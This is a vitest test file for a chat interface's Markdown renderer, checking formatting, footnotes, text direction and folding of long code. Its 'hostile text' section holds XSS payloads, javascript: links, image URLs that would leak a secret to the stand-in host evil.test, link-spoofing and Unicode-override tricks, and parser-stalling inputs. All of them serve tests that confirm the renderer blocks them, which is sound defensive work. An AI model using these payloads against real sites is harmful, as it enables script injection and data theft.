import { renderToStaticMarkup } from "react-dom/server"
import { beforeAll, describe, expect, test, vi } from "vitest"
import { loadTexts } from "../platform/language/texts.ts"
import { provideContributions, withActions, type CodeShown } from "../state/contributions.ts"
import { codeCap, foldFrom, lineCap, messageCap } from "./markdown-limits.ts"
import { MarkdownView } from "./markdown-view.tsx"
import { countProcessorTime } from "../../testing/processor-time.ts"

// The page's address is read when its modules are; there is no page here.
vi.hoisted(() => vi.stubGlobal("location", new URL("http://localhost/")))

beforeAll(() => loadTexts("pt"))

const greet = { id: "greet", icon: "copy", text: () => "Cumprimentar", run() {} } as const
const forWhole = {
  ...greet,
  id: "whole",
  text: () => "Inteiro",
  isOffered: ({ code }: CodeShown) => code.startsWith("começo\n") && code.endsWith("\nfim\n"),
}
const forSpaces = {
  ...greet,
  id: "spaces",
  text: () => "Espaços",
  isOffered: ({ code }: CodeShown) => /b {3}c\nfim\n$/.test(code),
}
const forShell = { ...greet, id: "run", text: () => "Rodar", isOffered: ({ language }: CodeShown) => language === "sh" }

beforeAll(async () => {
  const actions = async () => ({
    actions: { message: [], code: [greet, forShell, forWhole, forSpaces], conversation: [] },
  })
  provideContributions({ actions })
  await withActions(async () => {})
})

function htmlOf(text: string): string {
  return renderToStaticMarkup(<MarkdownView text={text} streaming={false} />)
}

/** How many buttons a block of code has for the rest of it: a folded one says how many lines it has. */
function shownLess(code: string): number {
  return code.length > codeCap && code.split("\n").length <= foldFrom.folded ? 1 : 0
}

/** The words a reader sees. */
function wordsOf(text: string): string {
  return htmlOf(text)
    .replace(/<[^>]+>/g, "")
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&#x27;", "'")
    .replaceAll("&amp;", "&")
}

describe("what a model writes", () => {
  test("becomes headings, lists, tables, tasks and code", () => {
    const html = htmlOf(
      "# Título\n\n- [x] feito\n- [ ] falta\n\n3. três\n\n| a | b |\n|---|--:|\n| 1 | ~~2~~ |\n\n```ts\nlet x = 1\n```\n\n> citação",
    )
    expect(html).toContain(">Título</h3>")
    expect(html).toMatch(/<input type="checkbox"[^>]* checked=""/)
    expect(html).toContain('<ol start="3">')
    expect(html).toContain("<del>2</del>")
    expect(html).toContain("<code>let x = 1\n</code>")
    expect(html).toContain("<blockquote>")
  })

  test("has, on each block of code, the actions that are offered for its language", () => {
    const html = htmlOf("```ts\nlet x = 1\n```")
    expect(html).toContain('aria-label="Cumprimentar"')
    expect(html).not.toContain('aria-label="Rodar"')
    expect(htmlOf("```sh\nls\n```")).toContain('aria-label="Rodar"')
  })

  test("has breaks in cells and raised or lowered signs, and no other tag", () => {
    const html = htmlOf(
      "| a |\n|---|\n| um<br>dois<BR /> |\n\nH<sub>2</sub>O, m<sup>2</sup>, a tag <br>, <sub>x<b>y</sub>",
    )
    expect(html).toContain("um<br/>dois<br/>")
    expect(html).toContain("H<sub>2</sub>O, m<sup>2</sup>, a tag &lt;br&gt;, &lt;sub&gt;x&lt;b&gt;y&lt;/sub&gt;")
  })

  test("keeps money as it is, one real or ten", () => {
    for (const text of ["Custa R$ 10 e R$ 20.", "De US$5 a US$ 7", "$10 ou $20", "R$ 1.850,00 * 3,2% = R$ 59,20"]) {
      expect(wordsOf(text)).toBe(text)
    }
  })

  test("counts footnotes by where they are called, and leaves a call without its note as it was", () => {
    const html = htmlOf("Um[^b] e dois[^a], nada[^x].\n\n[^a]: nota *a*\n\n    mais dela\n[^b]: nota b")
    expect(wordsOf("Um[^b] e dois[^a], nada[^x].\n\n[^a]: nota a\n[^b]: nota b")).toBe(
      "Um1 e dois2, nada[^x].nota b↩nota a↩",
    )
    expect(html).toContain('role="doc-noteref"')
    expect(html).toContain("<em>a</em>")
    expect(html).toContain("mais dela")
    expect(html).toContain('aria-label="Voltar ao texto da nota 1"')
  })

  test("reads each paragraph and item in its own direction, lists and tables by their first letter", () => {
    const html = htmlOf("olá\n\n- سلام\n- olá\n\n> שלום")
    expect(html).toContain('<p dir="auto">olá</p>')
    expect(html).toContain('<ul dir="rtl">')
    expect(html).toContain('<blockquote dir="rtl">')
    // A page from right to left would turn the columns of a table that is not.
    expect(htmlOf("| a | b |\n|--|--|\n| 1 | 2 |")).toContain('role="group" dir="ltr"')
    expect(htmlOf("| سلام | b |\n|--|--|\n| 1 | 2 |")).toContain('role="group" dir="rtl"')
  })

  test("draws a formula that begins its lines with signs of lists, and text between lone dollars not", () => {
    const html = htmlOf("Seja\n$$\nx = a\n+ b\n- c\n$$\ne R$ 5.")
    expect(html).not.toContain("<li")
    expect(html).toContain('data-copied-as="$$\nx = a\n+ b\n- c\n$$"')
    expect(htmlOf("de R$ 10 a R$ 20, $5 ou $10")).not.toContain("data-copied-as")
  })

  test("sends sound and film to a tab of their own", () => {
    const html = htmlOf("![aula](https://x.test/aula.mp4) ![](https://x.test/som.mp3)")
    expect(html.match(/target="_blank" rel="noopener noreferrer"/g)?.length).toBe(2)
    expect(html).toContain("Abrir de x.test em outra aba")
    expect(html).not.toMatch(/<(?:video|audio|img)/)
  })

  test("links addresses that begin with www", () => {
    expect(htmlOf("veja www.exemplo.com.br/a.")).toContain('href="https://www.exemplo.com.br/a"')
  })

  test("keeps formulas letter by letter", () => {
    for (const text of ["Seja \\(x_1 * y_1\\) e \\[ a_{1} * b \\]", "$$ V = P \\cdot \\frac{a_1}{b_1} $$"]) {
      expect(wordsOf(text)).toBe(text)
    }
  })
})

describe("hostile text", () => {
  test.each([
    "<script>__pwned=1</script>",
    "<img src=x onerror=__pwned=1>",
    "<svg/onload=__pwned=1>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned=1&gt;">',
  ])("shows %s as text", (text) => {
    const html = htmlOf(text)
    expect(html).not.toMatch(/<(?:script|img|svg|math|style)[\s>]/)
    expect(wordsOf(text)).toContain("__pwned=1")
  })

  test.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](/api/config)",
  ])("makes no link of %s", (text) => {
    expect(htmlOf(text)).not.toContain("<a ")
  })

  test.each(["![a](https://evil.test/?d=SEGREDO)", "![a][r]\n\n[r]: https://evil.test/?d=SEGREDO"])(
    "asks nobody for the picture %s until the reader does",
    (text) => {
      const html = htmlOf(text)
      expect(html).not.toContain("<img")
      expect(html).not.toContain("SEGREDO")
      expect(html).toContain("Carregar imagem de evil.test")
    },
  )

  test("draws pictures that are inside the message, but no SVG", () => {
    expect(htmlOf("![a](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img")
    expect(htmlOf("![a](data:image/svg+xml;base64,PHN2Zz4=)")).not.toContain("<img")
  })

  test("names the real host of a link that claims another", () => {
    expect(wordsOf("[https://banco.com.br](https://evil.test/a)")).toContain("https://banco.com.br (evil.test)")
  })

  test.each([
    ["[a`\u202eb`](https://evil.test/a)", "ab"],
    ["[![\u202ec](https://a.test/)](https://evil.test/a)", "c"],
    ["![\u202ed](https://evil.test/a)", "d"],
  ])("turns no words of a link or a picture around: %j", (text, words) => {
    expect(wordsOf(text)).toContain(words)
    expect(wordsOf(text)).not.toContain("\u202e")
  })

  test("opens links in a tab of their own that knows nothing of ours", () => {
    expect(htmlOf("https://exemplo.com.br/a")).toContain('target="_blank" rel="noopener noreferrer"')
  })

  test.each([
    ["4 000 quotation marks", `${">".repeat(4_000)} x`],
    ["a list 300 deep", Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["600 nested things", `${"*a _b ".repeat(300)}x${"_ *".repeat(300)}`],
    ["*a_ 20 000 times", "*a_".repeat(20_000)],
    ["one line of 5 MB", "a".repeat(5_000_000)],
    ["one line of code of 5 MB", `\`\`\`\n${"a".repeat(5_000_000)}\n\`\`\``],
    ["a table of 20 000 rows", `|a|\n|-|\n${"|b|\n".repeat(20_000)}`],
  ])("draws %s in a moment", (_, text) => {
    const spentMs = countProcessorTime()
    const html = htmlOf(text)
    expect(spentMs()).toBeLessThan(3_000)
    expect(html.length).toBeLessThan(400_000)
  })

  test("offers the rest of what is too long to show at once", () => {
    expect(htmlOf("a".repeat(5_000_000))).toContain("Mostrar tudo")
    expect(htmlOf(`|a|\n|-|\n${"|b|\n".repeat(1_000)}`)).toContain("Mostrar tudo")
  })

  test("reads so many lines as Markdown, and offers the rest as it was written", () => {
    const list = (lines: number) => htmlOf("- a\n".repeat(lines))
    expect(list(lineCap)).not.toContain("Mostrar tudo")
    expect(list(lineCap + 1)).toContain("Mostrar tudo")
  })

  test.each([
    ["more lines than are read as Markdown", "a\n".repeat(lineCap + 10)],
    ["more characters than are read as Markdown", `${"a".repeat(99)}\n`.repeat(messageCap / 100 + 10)],
    ["a line that is longer than that", `${"a".repeat(messageCap + 10)}\n`],
  ])("has all of the code to copy where that has %s, and what follows it as the rest", (_, middle) => {
    const code = `começo\n${middle}\`\`\` x\nfim\n`
    const offers = (text: string) => htmlOf(text).includes('aria-label="Inteiro"')
    for (const fence of ["```", "~~~~"]) {
      expect(offers(`Veja:\n\n${fence}html\n${code}${fence}\n`)).toBe(true)
      expect(offers(`${fence}\n${code}`)).toBe(true)
      expect(offers(`${fence}\n${code}${fence}\n\ndepois`)).toBe(true)
    }
    expect(htmlOf(`Veja:\n\n\`\`\`\n${code}\`\`\`\n`).match(/Mostrar tudo/g) ?? []).toHaveLength(shownLess(code))
    expect(htmlOf(`Veja:\n\n\`\`\`\n${code}\`\`\`\ndepois`).match(/Mostrar tudo/g)).toHaveLength(shownLess(code) + 1)
    expect(offers(`${"- a\n".repeat(lineCap)}\n\`\`\`\n${code}`)).toBe(false)
  })

  test.each([
    ["four spaces", "    "],
    ["a tab", "\t"],
    ["a space that breaks no line", "\u00a0"],
  ])("takes a fence behind %s for a line of the code, beyond what is read as Markdown", (_, before) => {
    const code = `começo\n${"a\n".repeat(lineCap)}${before}\`\`\`\nfim\n`
    for (const end of ["", "```", "   ``` \t\n", "````\r\n\ndepois"])
      expect(htmlOf(`\`\`\`\n${code}${end}`)).toContain('aria-label="Inteiro"')
  })

  test("takes the indentation of a fence off all lines of its code, and no more than that", () => {
    const lines = (count: number) => "  a\n".repeat(count)
    const indented = (end: string) => htmlOf(`  \`\`\`\n  começo\n${lines(lineCap)} a\n${end}  \`\`\``)
    expect(indented("  fim\n")).toContain('aria-label="Inteiro"')
    expect(indented("   fim\n")).not.toContain('aria-label="Inteiro"')
    const cutInALine = "  ```\n  começo\n".padEnd(messageCap, "b")
    expect(htmlOf(`${cutInALine}   c\n  fim\n`)).toContain('aria-label="Espaços"')
  })

  test("takes code whose end has not arrived for open, also beyond what is read as Markdown", () => {
    const streamed = (text: string) => renderToStaticMarkup(<MarkdownView text={text} streaming />)
    const code = `\`\`\`ts\n${"a\n".repeat(lineCap + 10)}`
    // Only a block that is whole is folded, as it only is coloured.
    const folded = `Mostrar as ${lineCap + 10} linhas`
    expect(streamed(code)).not.toContain(folded)
    expect(streamed(`${code}\`\`\`\n`)).toContain(folded)
    expect(htmlOf(code)).toContain(folded)
  })

  test("shows fewer rows of a table the wider it is", () => {
    const table = (columns: number) => {
      const row = (cell: string) => `${`|${cell}`.repeat(columns)}|\n`
      return htmlOf(row("a") + row("-") + row("b").repeat(301))
    }
    expect(table(2)).toContain("Mostrar tudo")
    for (const columns of [2, 20, 90]) expect(table(columns).match(/<td/g)?.length).toBeLessThan(1_500)
  })
})
